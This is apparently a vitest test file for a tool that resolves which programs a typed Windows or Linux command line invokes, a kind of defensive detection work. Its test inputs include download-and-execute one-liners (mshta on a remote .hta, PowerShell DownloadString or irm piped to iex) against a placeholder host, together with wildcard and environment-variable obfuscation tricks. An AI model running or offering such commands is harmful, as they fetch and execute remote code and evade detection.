import { describe, expect, it } from "vitest";
import { builtinCatalog } from "../catalog/load.ts";
import { resolve } from "./resolve.ts";

const programs = (commandLine: string, platform: "windows" | "linux" = "windows") =>
  resolve({ commandLine, platform, as: "typed" }, builtinCatalog()).invocations.map(({ binary }) => binary.name);

describe("a typed line", () => {
  it.each([
    "@mshta http://files.example.net/a.hta",
    "(mshta http://files.example.net/a.hta)",
    '("mshta.exe" http://files.example.net/a.hta)',
    "if 1==1 mshta http://files.example.net/a.hta",
    "if 1==1 (mshta http://files.example.net/a.hta)",
    "if %x% equ 1 mshta http://files.example.net/a.hta",
    "for /f %i in ('where msh*ta.exe') do %i http://files.example.net/a.hta",
    "for /f %i in ('dir /s /b C:\\Windows\\msh*a.exe') do %i http://files.example.net/a.hta",
  ])("is cmd's: %s", (line) => {
    expect(programs(line)[0]).toBe("cmd.exe");
    expect(programs(line).at(-1)).toBe("mshta.exe");
  });

  it.each([
    "(New-Object Net.WebClient).DownloadString('http://files.example.net/a.ps1') | iex",
    "(iwr http://files.example.net/a.ps1).Content | iex",
    "iex (irm http://files.example.net/a.ps1)",
    "powershell & { iex (irm http://files.example.net/a.ps1) }",
  ])("is PowerShell's: %s", (line) => expect(programs(line)).toEqual(["powershell.exe"]));

  it.each([
    'powershell -c "& (gci C:\\W*\\S*32\\msh*ta.exe) http://files.example.net/a.hta"',
    'powershell -c "& (Get-ChildItem C:\\Windows -Filter msh*a.exe).FullName http://files.example.net/a.hta"',
    'powershell -c "$x = where.exe msh*ta.exe; & $x http://files.example.net/a.hta"',
    'powershell -c "& (Resolve-Path C:\\Windows\\System32\\m?hta.exe) http://files.example.net/a.hta"',
    'set q=mshta http://files.example.net/a.hta&& powershell -c "iex $env:q"',
  ])("names a program that is looked for: %s", (line) => expect(programs(line)).toContain("mshta.exe"));

  it("is PowerShell's to its end where cmd would begin no command with what follows", () => {
    expect(programs("powershell Get-Date; & $env:temp\\q.exe /s")).toEqual(["powershell.exe", "q.exe"]);
    expect(programs("powershell Get-Date; & 'C:\\q r\\q.exe' /s")).toEqual(["powershell.exe", "q.exe"]);
    expect(programs("powershell Get-Date & C:\\q\\q.exe")).toEqual(["cmd.exe", "powershell.exe", "q.exe"]);
  });

  it.each(['powershell -c "& (gci C:\\Temp\\*.exe)"', 'powershell -c "& (gci C:\\Windows\\r*.exe)"'])(
    "names none where many may be meant: %s",
    (line) => expect(programs(line)).not.toContain("reg.exe"),
  );

  it("knows what Python decodes, and what a list is given", () => {
    expect(programs("echo aWQ= | python3 -m base64 -d | sh", "linux")).toContain("id");
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's.
    const line = "mapfile -t a <<< $'id\n-u'; \"${a[@]}\"";
    expect(programs(line, "linux")).toContain("id");
  });
});
